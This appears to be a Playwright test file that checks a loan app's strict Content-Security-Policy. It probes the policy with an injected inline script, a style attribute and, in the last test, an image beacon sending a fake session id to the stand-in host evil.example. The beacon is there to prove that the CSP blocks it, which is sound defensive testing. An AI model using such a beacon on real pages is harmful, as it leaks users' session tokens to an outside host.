/**
 * The production build runs under a strict Content-Security-Policy (server/http/content-security-policy.ts): the
 * server sends it as a header and the built index.html carries it as a <meta> (server/http/csp-meta.ts). Every route of
 * screens/routes.json loads without a single CSP violation (checked in the one walk of every route, every-route.spec.ts);
 * dialogs and frames too; the policy really refuses inline script and eval; and on a static host that sends no header at
 * all, the <meta> alone still refuses an outside picture.
 */
import { expect, test } from '@playwright/test';
import { useScenario } from '../setup/e2e-page.ts';
import { startStaticHost, type StaticHost } from '../setup/static-host.ts';
import { violations, watchCsp } from '../setup/e2e-watch.ts';

const session = 'userId=5512&deviceId=dev-1&appName=hatid&merchantNumber=M-88';

test('the app is served with a strict policy: no inline script, no eval, no plugins, no outside base', async ({ page }) => {
  const answer = await page.goto('/');
  const policy = answer?.headers()['content-security-policy'] ?? '';
  const directive = (name: string) =>
    policy
      .split(';')
      .map((d) => d.trim())
      .find((d) => d.startsWith(`${name} `)) ?? '';
  expect(directive('script-src')).toBe("script-src 'self'");
  expect(policy).not.toContain('unsafe-eval');
  expect(directive('default-src')).toBe("default-src 'self'");
  expect(directive('object-src')).toBe("object-src 'none'");
  expect(directive('base-uri')).toBe("base-uri 'none'");
  expect(directive('style-src-attr')).toBe("style-src-attr 'none'");
});

test('the policy refuses an inline script and a style attribute, and the watcher sees both', async ({ page }) => {
  await watchCsp(page);
  await page.goto('/customerService');
  await expect(page.getByText('Telephone/WhatsApp')).toBeVisible();
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.cspProbe = 1';
    document.head.append(script);
    document.body.insertAdjacentHTML('beforeend', '<p style="color: red">probe</p>');
  });
  expect(await page.evaluate(() => window.cspProbe)).toBeUndefined();
  // Each is reported twice: by the header's policy and by the same policy in the page's <meta>.
  await expect
    .poll(async () => (await violations(page)).map((v) => v.directive).sort())
    .toEqual(['script-src-elem', 'script-src-elem', 'style-src-attr', 'style-src-attr']);
});

test('no CSP violation with dialogs open: an agreement dialog with its frame, and a zoomed picture', async ({ page }) => {
  const consoleErrors = await watchCsp(page);
  await useScenario(page, 'confirm-popup-agreement');
  await page.goto(`/confirmLoan?productId=7&${session}`);
  await expect(page.getByRole('dialog', { name: 'Loan agreement' })).toBeVisible();
  await expect(page.locator('iframe[title="Loan agreement"]')).toBeVisible();
  await page.waitForLoadState('networkidle');
  expect(await violations(page)).toEqual([]);

  // The payment code page's step picture (the instructions page no longer has pictures: issue 22, item 3).
  await page.goto('/repaymentOfCode?showType=1&payCode=HT500017000001&repayAmount=523400');
  await page
    .getByRole('button', { name: /^Enlarge/ })
    .first()
    .click();
  await expect(page.getByRole('dialog')).toBeVisible();
  expect(await violations(page)).toEqual([]);
  expect(consoleErrors).toEqual([]);
});

test.describe('on a static host that sends no CSP header', () => {
  let host: StaticHost;
  test.beforeAll(async () => {
    // The build the production server serves (playwright.config.ts builds it first), on a host without headers.
    host = await startStaticHost('dist');
  });
  test.afterAll(async () => {
    await host.close();
  });

  test('the page’s own <meta> policy still refuses a picture from evil.example and an inline script', async ({ page }) => {
    const outside: string[] = [];
    await page.route(/evil\.example/, (route) => {
      outside.push(route.request().url());
      return route.fulfill({ status: 204, body: '' });
    });
    await watchCsp(page);
    const answer = await page.goto(`${host.origin}/customerService`);
    expect(answer?.headers()['content-security-policy']).toBeUndefined();
    await expect(page.locator('main').first()).toBeVisible();
    // Past the app's own URL policy (as a bug in it would be): only the CSP stands in the way.
    await page.evaluate(() => {
      const img = document.createElement('img');
      img.src = 'https://evil.example/c.gif?sid=S3cr3tSess10n';
      document.body.append(img);
      const script = document.createElement('script');
      script.textContent = 'window.cspProbe = 1';
      document.head.append(script);
    });
    await expect
      .poll(async () => (await violations(page)).map((v) => `${v.directive} ${v.blocked}`).sort())
      .toEqual(['img-src https://evil.example/c.gif?sid=S3cr3tSess10n', 'script-src-elem inline']);
    expect(await page.evaluate(() => window.cspProbe)).toBeUndefined();
    expect(outside).toEqual([]);
  });
});
